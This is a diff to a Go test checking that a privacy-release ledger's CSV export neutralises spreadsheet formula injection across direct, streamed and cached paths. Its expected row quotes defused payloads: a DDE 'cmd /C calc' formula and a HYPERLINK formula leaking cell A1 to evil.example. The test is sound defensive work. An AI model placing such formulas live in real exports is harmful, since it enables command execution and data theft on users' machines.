@@ -33,12 +33,39 @@ func TestExportCSVNeutralisesFormulas(t *testing.T) {
 			Quantiles: []privacy.Quantile{{Rank: 0.5, Value: -1.5, CILow: math.Inf(-1), CIHigh: math.Inf(1)}},
 		}},
 	}
-	v := &ledgerView{}
-	b, err := v.exportCSV(func() ([]ReleaseEntry, error) {
-		return []ReleaseEntry{{Signed: privacy.Signed{ID: "@id", Release: rel}, Leaf: 7}}, nil
-	})
-	if err != nil {
-		t.Fatal(err)
+	// JSON has no NaN or Inf, so no stored release carries one: the rows
+	// are rendered from the decoded release, as the export renders each
+	// one it reads.
+	var buf bytes.Buffer
+	buf.Write(exportHeader())
+	cw := csv.NewWriter(&buf)
+	writeReleaseRows(cw, &privacy.Signed{ID: "@id", Release: rel}, 7)
+	cw.Flush()
+	b := buf.Bytes()
+	entries := entriesPager{{Signed: privacy.Signed{ID: "@id", Release: rel}, Leaf: 7}}
+	if want := oracleExportCSV(entries); !bytes.Equal(b, want) {
+		t.Fatalf("export differs from the old renderer's:\n%s\n%s", b, want)
+	}
+	// Read from the ledger, streamed or cached, the hostile text is
+	// neutralised the same way.
+	finite := rel
+	finite.Indicators = slices.Clone(rel.Indicators)
+	finite.Indicators[0].Cells = slices.Clone(rel.Indicators[0].Cells)
+	finite.Indicators[0].Cells[2].CILow, finite.Indicators[0].Cells[2].CIHigh = -20, 1
+	finite.Indicators[0].Quantiles = []privacy.Quantile{{Rank: 0.5, Value: -1.5, CILow: -3, CIHigh: 2}}
+	var ledger entriesPager
+	for leaf := range int64(3) {
+		ledger = append(ledger, ReleaseEntry{Signed: privacy.Signed{ID: "@id" + strconv.FormatInt(leaf, 10), Release: finite}, Leaf: leaf})
+	}
+	want := oracleExportCSV(ledger)
+	if got := streamedExport(t, ledger); !bytes.Equal(got, want) {
+		t.Errorf("streamed export differs from the old renderer's:\n%s\n%s", got, want)
+	}
+	if got := cachedExport(t, t.TempDir(), ledger); !bytes.Equal(got, want) {
+		t.Errorf("cached export differs from the old renderer's:\n%s\n%s", got, want)
+	}
+	if !bytes.Contains(want, []byte(`'=cmd|' /C calc'!A0,2024-Q1,"'+SUM(1,2)",'@dim|sex,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")|female",-3,-9,3,'-2+3,2,0.5,0,'@id0,0`)) {
+		t.Errorf("the ledger's hostile row is not neutralised:\n%s", want)
 	}
 	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
 	if err != nil {
